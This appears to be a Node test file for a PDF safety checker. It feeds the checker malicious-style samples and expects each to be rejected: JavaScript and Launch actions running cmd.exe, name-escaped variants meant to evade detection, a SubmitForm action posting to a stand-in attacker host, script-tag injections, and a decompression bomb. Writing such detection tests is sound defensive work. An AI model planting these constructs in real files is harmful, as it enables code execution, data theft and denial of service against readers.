import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { makePdf } from '../../../test/support/make-pdf.ts'
import { findPdfProblem } from './check-pdf.ts'

/** An object stream that holds an object, packed (ISO 32000-1, 7.5.7). */
function objectStream(object: string, filter = '/FlateDecode', type = '/ObjStm'): string {
  const content = deflateSync(Buffer.from(`9 0 ${object}`, 'latin1'))
  const dictionary = `<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${content.length} >>`
  return `${dictionary}\nstream\n${content.toString('latin1')}\nendstream`
}

test('plain documents pass, also with object streams, a first page to open and several revisions', async () => {
  for (const pdf of [
    makePdf(),
    makePdf('Birth certificate, JavaScript and Launch day'),
    makePdf('x', [objectStream('<< /Type /Annot /Subtype /Link >>')]),
    makePdf('x', [], '/OpenAction [3 0 R /Fit]'),
    Buffer.concat([makePdf(), Buffer.from('\r\n \n')]),
  ])
    assert.equal(await findPdfProblem(pdf), undefined)
})

test('what only begins like a PDF, or goes on behind its end, is none', async () => {
  for (const [bytes, problem] of [
    ['%PDF-1.4<script>alert(1)</script>', 'no_pdf'],
    ['%PDF-1.4\n<script>alert(1)</script>', 'trailing_data'],
    ['%PDF-9.4\n', 'no_pdf'],
    [`${makePdf().toString('latin1')}<html><script>alert(1)</script>`, 'trailing_data'],
    [`${makePdf().toString('latin1')}PK\u0003\u0004${'x'.repeat(3000)}`, 'trailing_data'],
    ['%PDF-1.4\nstartxref\n999999\n%%EOF', 'not_readable'],
    ['%PDF-1.4\n<html><script>x</script>\nxref\nstartxref\n34\n%%EOF', 'active_content'],
  ] as const)
    assert.equal(await findPdfProblem(Buffer.from(bytes, 'latin1')), problem, bytes.slice(0, 60))
})

test('scripts, programs, embedded files and sending forms are seen, escaped and packed too', async () => {
  const actions = [
    '<< /S /JavaScript /JS (app.alert(1)) >>',
    '<< /S /J#61vaScript /JS (x) >>',
    '<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>',
    '<< /S /Launch /F (cmd.exe) >>',
    '<< /Type /Filespec /EF << /F 6 0 R >> >> << /Type /EmbeddedFile >>',
    '<< /S /SubmitForm /F (https://evil.example) >>',
    '<< /Subtype /RichMedia >>',
    '<< /S /Rendition /JS (x) >>',
    '<< /XFA 7 0 R >>',
  ]
  for (const action of actions) {
    assert.equal(await findPdfProblem(makePdf('x', [action])), 'active_content', action)
    assert.equal(
      await findPdfProblem(makePdf('x', [objectStream(action)])),
      'active_content',
      `packed ${action}`,
    )
    assert.equal(await findPdfProblem(makePdf('x', [`% stream\n${action}\nendstream`])), 'active_content')
  }
  assert.equal(await findPdfProblem(makePdf('x', [], '/Names << /EmbeddedFiles 5 0 R >>')), 'active_content')
})

test('objects that cannot be unpacked are refused, and so are bombs', async () => {
  const script = '<< /S /JavaScript >>'
  for (const hidden of [
    objectStream(script, '/LZWDecode'),
    objectStream(script, '[/ASCIIHexDecode /FlateDecode]'),
    objectStream(script, '7 0 R'),
    objectStream(script, '/FlateDecode', '/Obj#53tm').replace(/x\S/, '??'),
  ])
    assert.match(
      (await findPdfProblem(makePdf('x', [hidden]))) ?? 'none',
      /not_readable|active_content/,
      hidden,
    )
  assert.equal(
    await findPdfProblem(makePdf('x', ['<< /Encrypt 9 0 R >>', objectStream('<< >>')])),
    'not_readable',
  )
  const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024)).toString('latin1')
  const packed = `<< /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`
  assert.equal(await findPdfProblem(makePdf('x', [packed])), 'not_readable')
})
